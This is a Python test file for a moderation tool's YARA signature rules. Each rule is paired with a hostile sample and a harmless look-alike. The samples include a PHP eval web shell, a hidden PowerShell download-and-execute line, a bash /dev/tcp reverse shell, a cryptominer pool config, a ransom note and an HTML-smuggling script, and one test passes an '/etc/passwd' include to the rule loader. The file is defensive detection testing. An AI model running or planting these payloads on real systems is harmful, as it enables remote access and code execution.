"""Our own YARA rules, an operator's, and what becomes of those that are none."""

from __future__ import annotations

import gzip
import json
import re
from base64 import b64encode
from collections.abc import Iterator
from importlib.util import find_spec
from pathlib import Path

import pytest
import yara_x
from hypothesis import given, settings
from hypothesis import strategies as st

from bylaws.cli import main
from bylaws.content.files import signatures as module
from bylaws.content.files.faults import LIMIT
from bylaws.content.files.rules import SETTING, sources
from bylaws.content.files.signatures import matcher, rests_on, signatures
from bylaws.content.stored import UNKNOWN

from .made import TEST_VIRUS, nested, tarred, zipped


def _forget() -> None:
    if module._asked.cache_info().currsize:
        matcher().close()
    module._asked.cache_clear()
    module._matcher.cache_clear()


@pytest.fixture(autouse=True)
def _alone(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.delenv(SETTING, raising=False)
    _forget()
    yield
    _forget()


def url(data: bytes) -> str:
    return "data:;base64," + b64encode(data).decode()


# In pieces, so that no scanner takes this file for what it tests.
LINK = b"L\0\0\0\x01\x14\x02\0" + bytes(60)
SHOWN: dict[str, tuple[bytes, bytes]] = {
    "test_virus": (b"first words, then " + TEST_VIRUS, b"EICAR is the name of a test"),
    "php_shell": (b"<?php @eval($_POST['x']); ?>", b"<?php echo htmlspecialchars($_POST['x']); ?>"),
    "packed_php": (b"<?php eval(gzinflate(base64_decode('abc')));", b"<?php $a = gzinflate(base64_decode('abc'));"),
    "hidden_powershell": (
        "".join(("powers", "hell -w hid", "den -c IEX (x).Download", "String('http://a.example')")).encode("utf-16-le"),
        b"how to use powershell: (New-Object Net.WebClient).DownloadString('http://a.example')",
    ),
    "running_link": (LINK + "cmd.exe /c start http://a.example".encode("utf-16-le"), LINK + b"C:\\notes.txt"),
    "reverse_shell": (b"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", b"bash -i, and what /dev/tcp is"),
    "miner": (b'{"url": "stratum+tcp://pool.example:3333", "donate-level": 1}', b"stratum+tcp://pool.example:3333"),
    "ransom_note": (
        b"Your files have been encrypted. Send 1 bitcoin and you get the decryptor.",
        b"Your backup: all files are encrypted by your own private key.",
    ),
    "page_that_unpacks": (
        b"<script>a = new Blob([atob(x)]); l.download = 'bill.iso'</script>",
        b"<script>a = new Blob([atob(x)]); l.download = 'photo.png'</script>",
    ),
}


def test_each_rule_of_ours_is_shown() -> None:
    assert SHOWN.keys() == set(re.findall(r"(?m)^rule (\w+)", sources()["bylaws"]))


@pytest.mark.parametrize("rule", SHOWN)
def test_each_rule_matches_what_it_is_for_and_not_what_looks_alike(rule: str) -> None:
    meant, alike = SHOWN[rule]
    assert signatures(url(meant)) == (rule,)
    assert signatures(url(alike)) == ()
    assert signatures(url(gzip.compress(tarred(("a", meant))))) == (rule,)
    assert signatures(url(nested(meant, 3))) == (rule,)


def test_all_rules_that_match_are_told() -> None:
    parts = zipped(("a", SHOWN["miner"][0]), ("b", SHOWN["php_shell"][0]), ("c", SHOWN["miner"][0]))
    assert signatures(url(parts)) == ("miner", "php_shell")


def test_what_cannot_be_looked_into_is_said() -> None:
    assert signatures("nowhere") is UNKNOWN
    assert signatures(url(bytes(LIMIT + 1))) == ("too large",)


@settings(deadline=None, max_examples=60)
@given(st.lists(st.sampled_from([part for pair in SHOWN.values() for part in pair]), max_size=4), st.binary(max_size=40))
def test_of_plain_files_the_library_alone_says_the_same(parts: list[bytes], between: bytes) -> None:
    data = b"." + between.join(parts)
    alone = yara_x.compile(sources()["bylaws"]).scan(data)
    assert matcher().ask(data) == "\t".join(sorted(each.identifier for each in alone.matching_rules))


POLICY = """---
policy: files
language: 1
provider: Example Host
version: 2026-11-21
effective: on posting
contact: abuse@example.net
timezone: UTC
---
## Files {#files}
You must not store harmful code.

```bylaw
rule stored on file.uploaded
  when signatures(content_ref) contains "house"
  severity high
  says "matches our signatures"
```

```example
given file.uploaded with account "a", content_ref "data:,a%20house"
expect stored
```
"""


@pytest.fixture
def policy(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "own.yar").write_text('rule house { strings: $a = "house" condition: $a }')
    (rules / "notes.txt").write_text("no rules")
    (tmp_path / "policy.md").write_text(POLICY)
    return Path("policy.md")


def test_an_operator_adds_rules(policy: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert main(["test", str(policy)]) == 1
    before = rests_on()
    _forget()
    monkeypatch.setenv(SETTING, "rules")
    assert main(["test", str(policy)]) == 0
    assert rests_on() != before
    Path("events.jsonl").write_text(
        '{"kind": "file.uploaded", "id": "f", "at": "2026-11-22T10:00:00Z", "account": "a", "content_ref": "data:,a%20house"}\n'
    )
    assert main(["run", str(policy), "--events", "events.jsonl"]) == 1
    (finding,) = map(json.loads, Path("out/findings.jsonl").read_text().splitlines())
    assert finding["content"] == {"signatures": f"1 ({rests_on()})"}


@pytest.mark.parametrize(
    ("text", "said"), [("rule {", "error"), ('include "/etc/passwd"', "include"), ("", "has no file of rules")]
)
def test_rules_that_are_none_are_wrong_usage(
    policy: Path, text: str, said: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv(SETTING, "rules")
    Path("rules/own.yar").write_text(text) if text else Path("rules/own.yar").unlink()
    assert main(["test", str(policy)]) == 64
    told = capsys.readouterr().err
    assert SETTING in told
    assert said in told


def test_without_the_extra_check_says_how_to_get_it(
    policy: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(Path("cache").absolute()))
    hidden = lambda name: None if name == "yara_x" else find_spec(name)  # noqa: E731
    monkeypatch.setattr("bylaws.policy.resolve.calls.find_spec", hidden)
    assert main(["check", str(policy)]) == 2
    told = " ".join(capsys.readouterr().err.split())
    assert "pip install 'bylaws[files]'" in told
